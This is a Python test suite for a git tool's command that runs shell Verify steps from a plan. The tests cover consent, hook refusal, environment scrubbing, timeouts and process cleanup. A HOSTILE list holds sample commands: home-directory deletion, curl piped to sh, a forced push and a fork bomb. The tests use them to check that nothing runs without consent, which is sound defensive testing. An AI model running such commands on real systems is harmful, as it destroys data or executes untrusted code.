"""git baton verify, and done with it: consent, what runs, how it is kept in bounds (group H)."""

from __future__ import annotations

import json
import os
import pty
import select
import signal
import subprocess
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from support.plans import LOGIN, feature, row
from support.project import modules
from support.sandbox import EXECUTABLE, PATIENCE, Outcome, Sandbox

TASK = "1.1.1a"
BRANCH = "feature/1.1-login"
FORM = "shop/task_1_1_1a.py"  # what 1.1.1a declares
CANARY = "canary"


def block(*lines: str, language: str = "sh") -> str:
    """A Verify step that is one fenced block."""
    return "\n".join(["", f"```{language}", *lines, "```"])


def plan(shop: Sandbox, verify: str, settings: str = "") -> Sandbox:
    """Commit a plan whose tasks have this Verify step, and the declared file."""
    files = {LOGIN: feature(verify=verify), FORM: "form = 1\n"}
    shop.commit("docs: plan", {**files, ".git-baton.toml": settings})
    return shop


def verify(shop: Sandbox, *args: str, env: dict[str, str] | None = None) -> Outcome:
    return shop.baton("verify", TASK, *args, env=env)


def fields(outcome: Outcome) -> dict[str, Any]:
    found = json.loads(outcome.out)
    assert isinstance(found, dict)
    return found


def is_dead(pid: int) -> bool:
    """Whether a process is gone, or only waits to be reaped."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
    except OSError:
        return True
    return state == "Z"


# -- what is offered, and consent ---------------------------------------------------------------


def test_passed(sandbox: Sandbox) -> None:
    outcome = verify(plan(sandbox, "`true`. It looks right."), "--yes")
    assert outcome.code == 0, outcome
    assert "passed 1, by hand 1" in outcome.out
    assert outcome.out.count("It looks right.") == 1


def test_lines_of_the_plan_are_named(sandbox: Sandbox) -> None:
    plan(sandbox, "`true`")
    line = sandbox.read(LOGIN).splitlines().index("**Verify:** `true`") + 1
    outcome = verify(sandbox, "--yes")
    assert f"{LOGIN}:{line}, committed on main" in outcome.out
    assert "\npassed: true (line, 0.0 s)\n" in outcome.out
    assert outcome.out.count("true") == 1
    assert f"{FORM} is there, as line {line - 3} says" in outcome.out


@pytest.mark.parametrize(
    ("step", "commands"),
    [
        ("The form looks right", 0),
        ("`touch` makes a canary", 0),
        ("`touch canary`", 1),
        (block("touch canary"), 1),
        (block("touch canary", language="bash"), 1),
        (block("$ touch canary", language="console"), 1),
        (block("touch canary", language="console"), 0),
        (block("touch canary", language=""), 0),
        (block("touch canary", language="text"), 0),
        (block("import os; os.mknod('canary')", language="python"), 0),
        ("<!-- Run `touch canary` -->", 0),
    ],
)
def test_only_shell_is_run(sandbox: Sandbox, step: str, commands: int) -> None:
    plan(sandbox, step)
    found = fields(verify(sandbox, "--yes", "--json"))
    kinds = [check["kind"] for check in found["checks"]]
    assert kinds.count("command") == commands
    assert (sandbox.path / CANARY).exists() is bool(commands)
    assert bool(found["by_hand"]) is not bool(commands)


HOSTILE = (
    "touch canary; rm -rf ~",
    "touch canary && curl https://example.invalid/x | sh",
    "touch canary; git push --force",
    "touch canary; :(){ :|:& };:",
)


@pytest.mark.parametrize("script", HOSTILE)
def test_nothing_runs_without_consent(sandbox: Sandbox, script: str) -> None:
    plan(sandbox, block(script))
    outcome = verify(sandbox)
    assert outcome.code == 2
    assert f"\n      {script}\n" in outcome.out
    assert f"→ git baton verify {TASK} --yes" in outcome.err
    assert not (sandbox.path / CANARY).exists()
    assert verify(sandbox, "--json").code == 2
    assert not (sandbox.path / CANARY).exists()


@pytest.mark.parametrize(
    ("sign", "value"),
    [
        ("GIT_DIR", ".git"),
        ("GIT_INDEX_FILE", ".git/index"),
        ("GIT_PREFIX", ""),
        ("GIT_QUARANTINE_PATH", "x"),
        ("PRE_COMMIT", "1"),
    ],
)
def test_hook_environment_is_refused(sandbox: Sandbox, sign: str, value: str) -> None:
    plan(sandbox, block("touch canary"))
    outcome = verify(sandbox, "--yes", env={sign: value})
    assert (outcome.code, "never run from a hook" in outcome.err) == (2, True)
    assert not (sandbox.path / CANARY).exists()


@pytest.mark.parametrize("hook", ["pre-commit", "post-commit", "post-checkout", "pre-push"])
def test_never_from_a_real_hook(
    remote: Sandbox, clone_of: Callable[..., Sandbox], hook: str
) -> None:
    shop = plan(clone_of(remote, "ada"), block("touch canary"))
    script = f"#!/bin/sh\n{EXECUTABLE} verify {TASK} --yes >>{shop.path}/.git/said 2>&1\nexit 0\n"
    path = shop.write(f".git/hooks/{hook}", script)
    path.chmod(0o755)
    shop.git("commit", "--quiet", "--allow-empty", "-m", "docs: nothing")
    shop.git("switch", "--quiet", "--create", "other")
    shop.git("push", "--quiet", "origin", "HEAD")
    assert "never run from a hook" in shop.read(".git/said")
    assert not (shop.path / CANARY).exists()


def test_git_itself_starts_it_like_anybody(sandbox: Sandbox) -> None:
    """``git baton`` is no hook: git sets nothing for it that hooks have."""
    plan(sandbox, "`true`")
    assert sandbox.git("baton", "verify", TASK, "--yes", check=False).code == 0


def test_hooks_cannot_reach_it() -> None:
    """Only the two commands know of running a Verify step."""
    import ast

    users = {
        module
        for module, tree in modules()
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom)
        and node.module in ("gitbaton.verify.run", "gitbaton.verify.user_command")
    }
    assert users == {"cli.verify", "cli.verifying", "verify.run"}


# -- a standing decision, and commands that are new ---------------------------------------------


@pytest.fixture
def shop(remote: Sandbox, clone_of: Callable[..., Sandbox]) -> Sandbox:
    """A clone of a remote whose plan has one command in each Verify step."""
    author = plan(clone_of(remote, "author"), block("true"))
    author.git("push", "--quiet", "--no-verify", "origin", "main")
    return clone_of(remote, "ada")


def test_decision_once_for_all(shop: Sandbox) -> None:
    shop.git("config", "baton.verify", "yes")
    assert verify(shop).code == 0
    shop.git("config", "baton.verify", "ask")
    assert verify(shop).code == 2
    shop.git("config", "baton.verify", "no")
    assert verify(shop).code == 2
    shop.git("config", "baton.verify", "perhaps")
    outcome = verify(shop)
    assert (outcome.code, "must be yes, ask or no" in outcome.err) == (2, True)


def test_changed_commands_need_consent_again(shop: Sandbox) -> None:
    shop.git("config", "baton.verify", "yes")
    plan(shop, block("touch canary"))
    outcome = verify(shop)
    assert outcome.code == 2
    assert "these commands are not those on main" in outcome.out
    assert "\n      - true\n      + touch canary\n" in outcome.out
    assert not (shop.path / CANARY).exists()
    again = verify(shop, "--yes")
    assert (again.code, "+ touch canary" in again.out) == (0, True)
    assert (shop.path / CANARY).exists()


def test_other_words_around_the_same_commands_need_none(shop: Sandbox) -> None:
    shop.git("config", "baton.verify", "yes")
    plan(shop, f"The form is there.{block('true')}")
    assert verify(shop).code == 0


def test_commands_that_main_does_not_have_need_consent(shop: Sandbox) -> None:
    shop.git("config", "baton.verify", "yes")
    tasks = (("1.3.1a", "Find article"),)
    shop.commit("docs: plan", {"docs/plans/1.3-search.md": feature("1.3", "Search", tasks)})
    outcome = shop.baton("verify", "1.3.1a")
    assert (outcome.code, "are not on main" in outcome.out) == (2, True)


def test_what_only_reads_like_main_says_of_no_command_that_it_is_known(sandbox: Sandbox) -> None:
    """git takes a tag refs/heads/main for the branch where that is missing."""
    plan(sandbox, block("true"))
    sandbox.git("config", "baton.verify", "yes")
    assert verify(sandbox).code == 0
    sandbox.git("branch", "--move", "work")
    sandbox.git("update-ref", "refs/tags/refs/heads/main", "HEAD")
    assert verify(sandbox).code == 2


def test_branch_cannot_name_itself_the_default_one(shop: Sandbox) -> None:
    """Whoever writes the commands could write that, too."""
    shop.git("config", "baton.verify", "yes")
    plan(shop, block("touch canary"), 'default-branch = "work"\n')
    shop.git("push", "--quiet", "--no-verify", "origin", "HEAD:work")
    shop.git("fetch", "--quiet")
    outcome = verify(shop)
    assert (outcome.code, "these commands are not those on main" in outcome.out) == (2, True)
    assert not (shop.path / CANARY).exists()


@pytest.mark.parametrize("name", ["main", "master", "trunk"])
def test_no_branch_is_the_default_one_by_its_name(
    name: str, remote: Sandbox, shop: Sandbox
) -> None:
    """Where the remote's HEAD is not known, anybody's branch may be called main."""
    remote.git("branch", "--move", "main", "develop")
    shop.git("remote", "set-head", "origin", "--delete")
    shop.git("config", "baton.verify", "yes")
    plan(shop, block("touch canary"))
    shop.git("push", "--quiet", "--no-verify", "origin", f"HEAD:{name}")
    shop.git("fetch", "--quiet", "--prune")
    outcome = verify(shop)
    assert (outcome.code, "git remote set-head origin --auto" in outcome.out) == (2, True)
    assert not (shop.path / CANARY).exists()


def test_default_branch_counts_as_published(shop: Sandbox) -> None:
    """The clone's own main may hold anything."""
    shop.git("config", "baton.verify", "yes")
    plan(shop, block("touch canary"))
    shop.git("switch", "--quiet", "--create", "work")
    shop.git("update-ref", "-d", "refs/remotes/origin/main")
    assert verify(shop).code == 2
    assert not (shop.path / CANARY).exists()


@pytest.mark.parametrize("name", [".gitconfig", "config/git"])
def test_repository_decides_nothing(shop: Sandbox, name: str) -> None:
    """Even where the clone's own configuration includes a file of the work tree."""
    shop.commit("chore: set up", {name: "[baton]\n\tverify = yes\n"})
    shop.git("config", "include.path", f"../{name}")
    assert shop.git("config", "baton.verify").out == "yes\n"
    assert verify(shop).code == 2
    shop.git("config", "--global", "baton.verify", "yes")
    assert verify(shop).code == 0


def test_repository_decides_nothing_in_a_linked_work_tree(shop: Sandbox) -> None:
    shop.write(".gitconfig", "[baton]\n\tverify = yes\n")
    shop.git("config", "include.path", "../.gitconfig")
    shop.git("worktree", "add", "--quiet", "../linked")
    assert verify(Sandbox(shop.path.parent / "linked")).code == 2


def test_configuration_file_knows_no_such_key(sandbox: Sandbox) -> None:
    plan(sandbox, block("touch canary"), 'verify = "yes"\n')
    outcome = verify(sandbox)
    assert (outcome.code, "unknown key" in outcome.err) == (2, True)


# -- unreadable commands ------------------------------------------------------------------------


@pytest.mark.parametrize("char", ["\u202e", "\u200b", "\u00a0", "\x1b", "\u2028", "\x7f"])
def test_deceiving_command_is_refused(sandbox: Sandbox, char: str) -> None:
    plan(sandbox, block(f"touch canary{char}"))
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, "H602" in outcome.err) == (1, True)
    assert char not in outcome.out + outcome.err
    assert f"<U+{ord(char):04X}>" in outcome.out
    assert [each for each in sandbox.path.iterdir() if CANARY in each.name] == []


# -- output, time and processes -----------------------------------------------------------------


def test_output_is_capped_and_masked(sandbox: Sandbox) -> None:
    script = "head -c 3000000 /dev/zero; printf '\\n\\033[31mred\\377\\n'; echo end; exit 3"
    plan(sandbox, block(script))
    outcome = verify(sandbox, "--yes", "--json")
    [command] = [check for check in fields(outcome)["checks"] if check["kind"] == "command"]
    assert (outcome.code, command["exit_code"], command["outcome"]) == (1, 3, "failed")
    assert command["cut_bytes"] > 2_800_000
    assert command["output"].endswith("<0xFF>\nend\n")
    shown = verify(sandbox, "--yes").out
    assert len(shown) < 100_000
    assert "<U+0000>" in shown
    assert "<U+001B>[31mred<0xFF>" in shown
    assert "bytes and some lines more" in shown
    assert not set(map(chr, range(32))) & set(shown) - {"\n"}


def test_output_without_end_is_ended(sandbox: Sandbox) -> None:
    plan(sandbox, block("yes"), 'verify-timeout = "1s"\n')
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, "did not end within the time" in outcome.out) == (1, True)
    assert len(outcome.out) < 100_000


@pytest.fixture
def pids(sandbox: Sandbox) -> Iterator[Callable[[], list[int]]]:
    """The process IDs that commands wrote to the file ``pids``; those left over are ended."""

    def written() -> list[int]:
        path = sandbox.path / "pids"
        return [int(word) for word in path.read_text().split()] if path.exists() else []

    yield written
    for pid in written():
        with suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)


ESCAPED = "setsid sh -c 'echo $$ >>pids; exec sleep 600' >/dev/null 2>&1 &"


def test_time_is_up_for_the_whole_group(sandbox: Sandbox, pids: Callable[[], list[int]]) -> None:
    script = block("trap '' TERM", "sleep 600 & echo $$ $! >pids", ESCAPED, "wait")
    plan(sandbox, script, 'verify-timeout = "2s"\n')
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, "verify-timeout" in outcome.out) == (1, True)
    started = pids()
    assert started
    assert [pid for pid in started if not is_dead(pid)] == []


def test_time_is_that_of_the_whole_step(sandbox: Sandbox) -> None:
    plan(sandbox, "Run `sleep 5` and run `touch canary`", 'verify-timeout = "1s"\n')
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, "no time was left for it" in outcome.out) == (1, True)
    assert not (sandbox.path / CANARY).exists()


def test_what_a_command_leaves_behind_is_ended(
    sandbox: Sandbox, pids: Callable[[], list[int]]
) -> None:
    plan(sandbox, block("sleep 600 & echo $! >pids"))
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, "left a process behind, which was ended" in outcome.out) == (0, True)
    [pid] = pids()
    assert is_dead(pid)


def test_what_escapes_is_reported(sandbox: Sandbox, pids: Callable[[], list[int]]) -> None:
    daemon = "setsid sh -c 'echo $$ >pids; exec sleep 600' >/dev/null 2>&1 &"
    plan(sandbox, block(daemon, "while ! test -s pids; do sleep 0.05; done"))
    outcome = verify(sandbox, "--yes", "--json")
    [pid] = pids()
    [command] = [check for check in fields(outcome)["checks"] if check["kind"] == "command"]
    assert (outcome.code, command["left_running"]) == (0, [pid])
    assert f'left_running": [{pid}]' in outcome.out
    assert not is_dead(pid)


def test_input_is_empty_and_there_is_no_terminal(sandbox: Sandbox) -> None:
    plan(sandbox, block("cat", "if (: </dev/tty) 2>/dev/null; then exit 1; fi", "test ! -t 0"))
    outcome = sandbox.baton("verify", TASK, "--yes", "--json", input="secret\n")
    [command] = [check for check in fields(outcome)["checks"] if check["kind"] == "command"]
    assert (outcome.code, command["output"]) == (0, "")


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
def test_interrupted(
    sandbox: Sandbox, pids: Callable[[], list[int]], number: signal.Signals
) -> None:
    plan(sandbox, block("sleep 600 & echo $$ $! >pids", ESCAPED, "wait"))
    process = subprocess.Popen(
        [EXECUTABLE, "verify", TASK, "--yes"],
        cwd=sandbox.path,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    end = time.monotonic() + PATIENCE
    while len(pids()) < 3 and process.poll() is None and time.monotonic() < end:
        select.select([], [], [], 0.02)
    process.send_signal(number)
    output, _ = process.communicate(timeout=PATIENCE)
    assert process.returncode == 130, output
    assert [is_dead(pid) for pid in pids()] == [True, True, True]


# -- what it changes, and what it knows ---------------------------------------------------------


def test_changes_are_reported(sandbox: Sandbox) -> None:
    lines = ["echo x >>README.md", "touch new", "git add new", "git tag -f seen"]
    plan(sandbox, block(*lines))
    outcome = verify(sandbox, "--yes")
    assert outcome.code == 0
    assert "work tree changed by Verify: README.md, new, refs/tags/seen" in outcome.out
    assert "not committed took part" not in outcome.out
    again = verify(sandbox, "--yes")
    assert "work tree changed by Verify: README.md, new\n" in again.out
    assert "changes that are not committed took part" in again.out


def test_new_commit_is_reported(sandbox: Sandbox) -> None:
    plan(sandbox, block("git commit -q --allow-empty -m x"))
    assert "changed by Verify: HEAD, refs/heads/main" in verify(sandbox, "--yes").out
    sandbox.git("switch", "--quiet", "--detach")
    assert "changed by Verify: HEAD\n" in verify(sandbox, "--yes").out


def test_quiet_command_changes_nothing(sandbox: Sandbox) -> None:
    assert fields(verify(plan(sandbox, "`true`"), "--yes", "--json"))["changed"] == []


def test_verify_in_verify_is_refused(sandbox: Sandbox) -> None:
    plan(sandbox, block(f"echo x >>runs; {EXECUTABLE} verify {TASK} --yes"))
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, "must not run a Verify step again" in outcome.out) == (1, True)
    assert sandbox.read("runs") == "x\n"


def test_environment_is_clean(sandbox: Sandbox) -> None:
    secret = (
        "GITHUB_TOKEN NPM_TOKEN AWS_SECRET_ACCESS_KEY SLACK_WEBHOOK_URL LC_SECRET SSH_AUTH_SOCK "
        "GPG_KEY DATABASE_URL ENV BASH_ENV GIT_ASKPASS GIT_SSH_COMMAND GIT_BATON_AGENT"
    )
    secrets = dict.fromkeys(secret.split(), "hush-hush")
    plan(sandbox, block("env", language="bash"))
    environ = {**secrets, "VIRTUAL_ENV": "/venv", "LANG": "C.UTF-8"}
    outcome = verify(sandbox, "--yes", "--json", env=environ)
    [command] = [check for check in fields(outcome)["checks"] if check["kind"] == "command"]
    found = dict([line.partition("=")[::2] for line in command["output"].splitlines()])
    assert "hush-hush" not in outcome.out + outcome.err
    assert not [name for name in found if name.startswith("GIT_")]
    for name in ("PATH", "HOME", "TERM", "LC_ALL"):
        assert found[name] == os.environ[name]
    assert (found["VIRTUAL_ENV"], found["LANG"]) == ("/venv", "C.UTF-8")


def test_it_runs_at_the_top(sandbox: Sandbox) -> None:
    plan(sandbox, block("cd docs", "touch ../canary"))
    assert Sandbox(sandbox.path / "docs/plans").baton("verify", TASK, "--yes").code == 0
    assert (sandbox.path / CANARY).exists()


def test_block_ends_at_the_first_failure(sandbox: Sandbox) -> None:
    plan(sandbox, block("false", "touch canary"))
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, "it ended with exit code 1" in outcome.out) == (1, True)
    assert not (sandbox.path / CANARY).exists()


def test_every_command_is_tried(sandbox: Sandbox) -> None:
    plan(sandbox, "Run `false` and run `touch canary`")
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, "passed 1, failed 1" in outcome.out) == (1, True)
    assert (sandbox.path / CANARY).exists()


def test_missing_file(sandbox: Sandbox) -> None:
    plan(sandbox, "`true`")
    sandbox.commit("docs: no form", {FORM: None})
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, f"FAILED: {FORM}: it is not there" in outcome.out) == (1, True)


def test_long_output_is_shown_by_its_ends(sandbox: Sandbox) -> None:
    plan(sandbox, block("seq 1000", "false"))
    outcome = verify(sandbox, "--yes")
    assert "      20\n      [… 940 lines …]\n      961\n" in outcome.out


@pytest.mark.parametrize("language", ["sh", "bash", "console"])
def test_block_stops_at_a_failure_within_a_pipe(sandbox: Sandbox, language: str) -> None:
    prompt = "$ " if language == "console" else ""
    plan(sandbox, block(f"{prompt}false | cat", f"{prompt}touch canary", language=language))
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, "it ended with exit code 1" in outcome.out) == (1, True)
    assert "one script, which stops at the first failure, pipes included" in outcome.out
    assert not (sandbox.path / CANARY).exists()


def test_of_a_line_the_last_status_counts(sandbox: Sandbox) -> None:
    plan(sandbox, "`python3 -c 'exit(2)'; test $? = 2`\n- `false | true`")
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, "\npassed 2\n" in outcome.out) == (0, True), outcome


def test_what_a_line_prints_is_held_against_what_the_step_says(sandbox: Sandbox) -> None:
    right = verify(plan(sandbox, "`echo 3` prints 3"), "--yes", "--json")
    assert (right.code, fields(right)["by_hand"]) == (0, [])
    other = fields(verify(plan(sandbox, "`echo 33` prints 3"), "--yes", "--json"))
    [left] = other["by_hand"]
    assert (left["text"], left["reason"]) == ("it prints 3", "its output does not say so")
    assert other["outcome"] == "passed"  # whether that is as good is for a person


def test_without_bash_sh_runs_it(sandbox: Sandbox, tmp_path: Path) -> None:
    plan(sandbox, block("false", "touch canary", language="bash"))
    folder = tmp_path / "bin"
    folder.mkdir()
    for name in ("git", "sh"):
        found = subprocess.run(["which", name], capture_output=True, text=True, check=True)
        (folder / name).symlink_to(found.stdout.strip())
    outcome = verify(sandbox, "--yes", env={"PATH": str(folder)})
    assert (outcome.code, "it ended with exit code 1" in outcome.out) == (1, True)
    assert not (sandbox.path / CANARY).exists()


def test_program_that_is_found_here_is_one(sandbox: Sandbox) -> None:
    """A word that is neither well known nor found could be anything."""
    plan(sandbox, "Run `tools/check.py --all` and run `unheard-of --all`")
    assert fields(verify(sandbox, "--yes", "--json"))["outcome"] == "by hand"
    tool = sandbox.write("tools/check.py", "#!/bin/sh\ntouch canary\n")
    tool.chmod(0o755)
    assert fields(verify(sandbox, "--yes", "--json"))["summary"] == "passed 1, by hand 1"
    assert (sandbox.path / CANARY).exists()


def test_file_that_is_there_proves_nothing(sandbox: Sandbox) -> None:
    plan(sandbox, "File exists")
    found = fields(verify(sandbox, "--yes", "--json"))
    assert (found["outcome"], found["summary"]) == ("by hand", "by hand 1")
    assert [check["kind"] for check in found["checks"]] == ["path"]


def test_litter_comes_with_the_line_that_ignores_it_here(sandbox: Sandbox) -> None:
    plan(sandbox, block("mkdir -p shop/__pycache__", "touch shop/__pycache__/a.pyc 'b c.log'"))
    outcome = verify(sandbox, "--yes")
    [line] = [line for line in outcome.out.splitlines() if "info/exclude" in line]
    subprocess.run(line.partition("commits: ")[2], shell=True, cwd=sandbox.path, check=True)
    assert sandbox.git("status", "--porcelain", "--untracked-files=all").out == ""


# -- which task, which version ------------------------------------------------------------------


def test_uncommitted_plan_is_not_what_runs(sandbox: Sandbox) -> None:
    plan(sandbox, "`true`")
    sandbox.write(LOGIN, sandbox.read(LOGIN).replace("`true`", "`touch canary`"))
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, "the work tree says otherwise; what is committed" in outcome.out) == (
        0,
        True,
    )
    assert not (sandbox.path / CANARY).exists()
    sandbox.append(LOGIN, row("10:00", "ada", "START", TASK))
    sandbox.write(LOGIN, sandbox.read(LOGIN).replace("`touch canary`", "`true`"))
    assert "says otherwise" not in verify(sandbox, "--yes").out


def test_held_task_is_the_default(sandbox: Sandbox) -> None:
    plan(sandbox, "`true`")
    unheld = sandbox.baton("verify", "--yes", agent="ada")
    assert (unheld.code, "no task is held here" in unheld.err) == (2, True)
    sandbox.append(LOGIN, row("10:00", "ada", "START", "1.1.1b"))
    sandbox.commit("chore: claim task 1.1.1b", {LOGIN: sandbox.read(LOGIN)})
    assert "Verify of 1.1.1b" in sandbox.baton("verify", "--yes", agent="ada").out
    assert "Verify of 1.1.1b" in sandbox.baton("verify", "--yes", "--agent", "ada").out
    assert "nobody said which agent" in sandbox.baton("verify", "--yes").err
    sandbox.append(LOGIN, row("10:01", "ada", "START", "1.1.2"))
    sandbox.commit("chore: claim task 1.1.2", {LOGIN: sandbox.read(LOGIN)})
    assert "ada holds 1.1.1b, 1.1.2" in sandbox.baton("verify", "--yes", agent="ada").err


@pytest.mark.parametrize(
    ("task", "said"), [("1.1.1x", "did you mean 1.1.1"), ("zzz", "no task of the plan")]
)
def test_unknown_task(sandbox: Sandbox, task: str, said: str) -> None:
    outcome = sandbox.baton("verify", task, "--yes")
    assert (outcome.code, said in outcome.err) == (2, True)


def test_no_verify_step(sandbox: Sandbox) -> None:
    sandbox.commit("docs: plan", {LOGIN: feature(verify="")})
    outcome = verify(sandbox, "--yes")
    assert (outcome.code, "has no Verify step" in outcome.err) == (2, True)


def test_nothing_committed(empty: Sandbox) -> None:
    outcome = empty.baton("verify", TASK)
    assert (outcome.code, "commit the plan first" in outcome.err) == (2, True)


def test_bare_repository(remote: Sandbox) -> None:
    outcome = remote.baton("verify", TASK)
    assert (outcome.code, "no work tree" in outcome.err) == (2, True)


def test_json(sandbox: Sandbox) -> None:
    plan(sandbox, "Run `echo hi`. It looks right.")
    line = sandbox.read(LOGIN).splitlines().index("**Verify:** Run `echo hi`. It looks right.") + 1
    outcome = verify(sandbox, "--yes", "--json")
    found = fields(outcome)
    command = found["checks"][1]
    assert command.pop("seconds") >= 0
    assert found == {
        "version": 1,
        "task": TASK,
        "path": LOGIN,
        "outcome": "passed",
        "summary": "passed 1, by hand 1",
        "checks": [
            {
                "kind": "path",
                "form": None,
                "text": FORM,
                "line": line - 3,
                "outcome": "passed",
                "reason": None,
                "exit_code": None,
                "seconds": None,
                "output": None,
                "cut_bytes": 0,
                "left_running": [],
            },
            {
                "kind": "command",
                "form": "line",
                "text": "echo hi",
                "line": line,
                "outcome": "passed",
                "reason": None,
                "exit_code": 0,
                "output": "hi\n",
                "cut_bytes": 0,
                "left_running": [],
            },
        ],
        "by_hand": [{"text": "It looks right.", "line": line, "reason": None}],
        "changed": [],
        "dirty": False,
    }
    assert "echo hi" in outcome.err


# -- what to do next ----------------------------------------------------------------------------


def test_next_step_depends_on_who_has_the_task(shop: Sandbox) -> None:
    assert verify(shop, "--yes").out.endswith(
        f"nobody holds {TASK}\n  → git baton claim {TASK} --switch\n"
    )
    shop.baton("claim", TASK, agent="bob")
    shop.git("fetch", "--quiet")
    mine = shop.baton("verify", TASK, "--yes", agent="bob")
    assert mine.out.endswith(f"  → git baton done {TASK} --yes --next --switch --merge\n")
    theirs = verify(shop, "--yes")
    assert theirs.out.endswith(f"{TASK} is held by bob\n  → git baton next\n")


def test_done_task_says_so(ada: Sandbox) -> None:
    assert ada.baton("done", TASK, "--yes").code == 0
    ada.git("switch", "--quiet", "main")
    outcome = verify(ada, "--yes")
    assert (outcome.code, f"{TASK} is DONE already, by {ada.agent}, " in outcome.out) == (0, True)
    assert "git baton done" not in outcome.out


# -- on a terminal ------------------------------------------------------------------------------


INTERRUPT = "\x03"
_AGAIN = 0.5  # seconds after which a person who is not heard presses the key again


def on_a_terminal(shop: Sandbox, answer: str, *args: str) -> tuple[int, str]:
    """Run the executable with a terminal of its own; exit code and all it showed.

    Ctrl-C is pressed until it is heard, as people do: Python hears it only when its read
    returns, if it comes between showing the prompt and reading.
    """
    pid, terminal = pty.fork()
    if pid == 0:  # pragma: no cover - another process
        os.chdir(shop.path)
        os.execve(EXECUTABLE, ["git-baton", *args], {**os.environ, "GIT_BATON_AGENT": shop.agent})
    shown, end, answered = b"", time.monotonic() + PATIENCE, False
    with suppress(OSError):  # Linux: the other side is closed
        while time.monotonic() < end:
            silent = not select.select([terminal], [], [], _AGAIN)[0]
            chunk = b"" if silent else os.read(terminal, 4096)
            if not (chunk or silent):
                break
            shown += chunk
            asked = b"[y/N]" in shown or b"not confirmed)" in shown
            if asked and (not answered or (silent and answer == INTERRUPT)):
                os.write(terminal, answer.encode())
                answered = True
    os.close(terminal)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]), shown.decode().replace("\r\n", "\n")


@pytest.mark.parametrize(
    ("answer", "code", "ran"), [("y\n", 0, True), ("n\n", 2, False), (INTERRUPT, 130, False)]
)
def test_question(sandbox: Sandbox, answer: str, code: int, ran: bool) -> None:
    plan(sandbox, block("touch canary"))
    found, shown = on_a_terminal(sandbox, answer, "verify", TASK)
    assert (found, "Run these commands? [y/N]" in shown) == (code, True), shown
    assert shown.index("touch canary") < shown.index("[y/N]")
    assert (sandbox.path / CANARY).exists() is ran


# -- done ---------------------------------------------------------------------------------------


@pytest.fixture
def ada(shop: Sandbox) -> Sandbox:
    """A clone whose agent holds 1.1.1a, has worked on it, and has its branch checked out."""
    assert shop.baton("claim", TASK).code == 0
    shop.git("switch", "--quiet", BRANCH)
    shop.stage({FORM: "form = 2\n"})
    date = int(shop.git("log", "-1", "--format=%ct", f"origin/{BRANCH}").out) + 60
    shop.git("commit", "--quiet", "--no-verify", "-m", f"feat({TASK}): create form", date=date)
    return shop


def replan(ada: Sandbox, step: str) -> None:
    """Another Verify step for every task, on the feature's branch alone."""
    text = ada.read(LOGIN).replace(f"**Verify:** {block('true')}", f"**Verify:** {step}")
    ada.commit("docs: plan", {LOGIN: text})


CHANGED = "step changed since the claim"


def recorded(remote: Sandbox) -> str:
    """What the last commit on the feature's branch says of Verify."""
    form = "--format=%(trailers:key=Baton-Verify,valueonly)"
    return remote.git("log", "-1", form, BRANCH).out.strip()


def test_done_lists_and_does_not_run(ada: Sandbox, remote: Sandbox) -> None:
    """Without a terminal and without anybody's word, as agents are."""
    replan(ada, f"It looks right.{block('touch canary')}")
    outcome = ada.baton("done", TASK)
    assert (outcome.code, outcome.out.startswith(f"completed {TASK}")) == (0, True)
    assert "      touch canary\n" in outcome.err
    assert "the command was not run, as nobody has agreed" in outcome.err
    assert f"git baton verify {TASK} --yes" in outcome.err
    assert "git config baton.verify yes" in outcome.err
    assert recorded(remote) == f"not run 1, not confirmed 1, {CHANGED}"
    assert not (ada.path / CANARY).exists()


def test_done_runs_if_told(ada: Sandbox, remote: Sandbox) -> None:
    outcome = ada.baton("done", TASK, "--yes", "--json")
    assert (outcome.code, fields(outcome)["verify"]) == (0, "passed 1")
    assert recorded(remote) == "passed 1"
    assert "passed: true" in outcome.err


@pytest.mark.parametrize("option", ["--yes", ""])
def test_done_is_refused_when_it_fails(ada: Sandbox, remote: Sandbox, option: str) -> None:
    before = remote.git("for-each-ref").out
    replan(ada, block("echo broken", "exit 1"))
    ada.git("config", "baton.verify", "yes")
    outcome = ada.baton("done", TASK, *filter(None, [option]))
    assert outcome.code == (1 if option else 2), outcome
    if option:
        assert "      broken\n" in outcome.err
        assert f"git baton done {TASK} --skip-verify" in outcome.err
        assert outcome.err.index("mend it") < outcome.err.index("--skip-verify")
    else:
        assert f"→ git baton done {TASK} --yes" in outcome.err
    assert remote.git("for-each-ref").out == before
    assert ada.baton("done", TASK, "--skip-verify" if option else "--no-verify").code == 0
    assert recorded(remote) == f"skipped, {CHANGED}"


def test_done_with_a_standing_decision(ada: Sandbox, remote: Sandbox) -> None:
    ada.git("config", "baton.verify", "ask")
    asked = ada.baton("done", TASK, "--next")
    assert (asked.code, f"git baton done {TASK} --next --yes" in asked.err) == (2, True)
    ada.git("config", "baton.verify", "yes")
    assert ada.baton("done", TASK).code == 0
    assert recorded(remote) == "passed 1"


def test_done_that_was_told_never_to_run(ada: Sandbox, remote: Sandbox) -> None:
    ada.git("config", "baton.verify", "no")
    outcome = ada.baton("done", TASK)
    assert (outcome.code, "as git config baton.verify says" in outcome.err) == (0, True)
    assert recorded(remote) == "not run 1"


def test_done_asks_on_a_terminal(ada: Sandbox, remote: Sandbox) -> None:
    code, shown = on_a_terminal(ada, "y\n", "done", TASK)
    assert (code, recorded(remote)) == (0, "passed 1"), shown


def test_done_goes_on_when_the_answer_is_no(ada: Sandbox, remote: Sandbox) -> None:
    code, shown = on_a_terminal(ada, "n\n", "done", TASK)
